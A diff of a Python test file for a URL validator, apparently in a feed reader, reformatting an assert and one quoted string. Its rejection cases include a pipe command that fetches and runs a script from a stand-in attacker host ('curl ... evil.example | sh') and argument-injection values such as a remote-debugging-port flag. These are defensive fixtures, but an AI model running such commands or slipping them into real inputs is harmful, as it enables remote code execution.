@@ -35,7 +35,7 @@ def test_accepts_plain_http_urls(url):
         ("data:text/html;base64,PHNjcmlwdD4=", "data:"),
         ("exec:~/bin/make-feed --all", "exec:"),
         ("filter:~/bin/rewrite:https://ok.example/rss", "filter:"),
-        ("query:Unread:unread = \"yes\"", "query:"),
+        ('query:Unread:unread = "yes"', "query:"),
         ("|curl -s https://evil.example | sh", "pipe"),
         ("-new-window=https://evil.example/", "'-'"),
         ("--remote-debugging-port=9222", "'-'"),
@@ -82,8 +82,10 @@ def test_non_string_is_refused_not_raised():
 
 
 def test_normalize_lowercases_scheme_and_host_and_drops_default_port_and_fragment():
-    assert normalize_url("HTTPS://News.Example.COM:443/Path/To?Q=Case#section") == \
-        "https://news.example.com/Path/To?Q=Case"
+    assert (
+        normalize_url("HTTPS://News.Example.COM:443/Path/To?Q=Case#section")
+        == "https://news.example.com/Path/To?Q=Case"
+    )
     assert normalize_url("http://example.org:80") == "http://example.org/"
     assert normalize_url("http://example.org:8080/x") == "http://example.org:8080/x"
 
